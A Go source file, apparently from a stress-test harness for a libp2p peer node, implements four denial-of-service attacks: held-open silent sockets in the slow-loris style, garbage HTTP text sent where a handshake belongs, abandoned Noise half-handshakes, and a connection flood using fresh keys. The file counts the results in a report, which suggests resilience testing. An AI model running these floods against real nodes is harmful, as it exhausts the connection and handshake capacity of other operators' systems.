package attack

import (
	"context"
	"crypto/rand"
	"errors"
	"io"
	"net"
	"sync"
	"time"

	"github.com/libp2p/go-libp2p/core/protocol"
	"github.com/libp2p/go-libp2p/p2p/security/noise"
	"github.com/multiformats/go-multistream"
)

const (
	strangers = 16 // connections at once of a flood that waits for what comes back
	each      = 8  // silent sockets from one source address
	verdict   = 5 * time.Second
)

// SilentSockets keeps eight sockets open from each source address and says
// nothing on them; one that is closed is opened again after Pause. It is the
// slow loris: it costs nothing, and fills what a node has for handshakes. Times
// counts sockets.
func SilentSockets(ctx context.Context, a *Attacker) error {
	return several(each*max(1, len(a.From)), func() error { return a.sockets(ctx, hold) })
}

// hold keeps a socket until the other side closes it.
func hold(c net.Conn) { io.Copy(io.Discard, c) }

// GarbageHandshake sends text of another protocol where the handshake should be.
func GarbageHandshake(ctx context.Context, a *Attacker) error {
	return several(strangers, func() error {
		return a.sockets(ctx, func(c net.Conn) {
			if _, err := io.WriteString(c, "GET / HTTP/1.1\r\nHost: parley\r\n\r\n"); err == nil {
				hold(c)
			}
		})
	})
}

// HalfHandshakes has the node compute its part of a handshake and goes away. The
// attacker's part is 32 random bytes: any are a public key of X25519.
func HalfHandshakes(ctx context.Context, a *Attacker) error {
	return several(strangers, func() error {
		return a.sockets(ctx, func(c net.Conn) {
			c.SetDeadline(time.Now().Add(verdict))
			if multistream.SelectProtoOrFail(protocol.ID(noise.ID), c) != nil {
				return
			}
			first := make([]byte, 2+32)
			rand.Read(first) // never fails: crypto/rand
			first[0], first[1] = 0, 32
			if _, err := c.Write(first); err != nil {
				return
			}
			if _, err := c.Read(first); err == nil {
				a.count.add(func(r *Report) { r.Halves++ })
			}
		})
	})
}

// UnlistedFlood connects with a new key each time, as fast as it can. It
// doesn't wait to be admitted: a request is on its way behind the handshake.
func UnlistedFlood(ctx context.Context, a *Attacker) error {
	return several(strangers, func() error { return a.connections(ctx, knock) })
}

// knock sends a request and waits to be hung up on.
func knock(ctx context.Context, p *Peer) {
	s, err := p.Open(ctx)
	if err != nil {
		return
	}
	epoch := newEpoch()
	if s.Send(Hello(epoch, 2, 1), Request(epoch, 1, []byte("let me in"))) != nil {
		return
	}
	s.SetDeadline(time.Now().Add(verdict))
	s.Next() // which counts what comes, if anything does
	untilLost(ctx, p)
}

// sockets runs f on one TCP connection after another.
func (a *Attacker) sockets(ctx context.Context, f func(net.Conn)) error {
	for a.next(ctx) {
		c, err := a.socket(ctx)
		if err != nil {
			return err
		}
		if c == nil {
			continue
		}
		end := context.AfterFunc(ctx, func() { c.Close() })
		f(c)
		if end() {
			a.count.add(func(r *Report) { r.Refused++ })
		}
		c.Close()
	}
	return nil
}

// several runs f so many times at once.
func several(n int, f func() error) error {
	errs := make([]error, n)
	var running sync.WaitGroup
	for i := range n {
		running.Go(func() { errs[i] = f() })
	}
	running.Wait()
	return errors.Join(errs...)
}
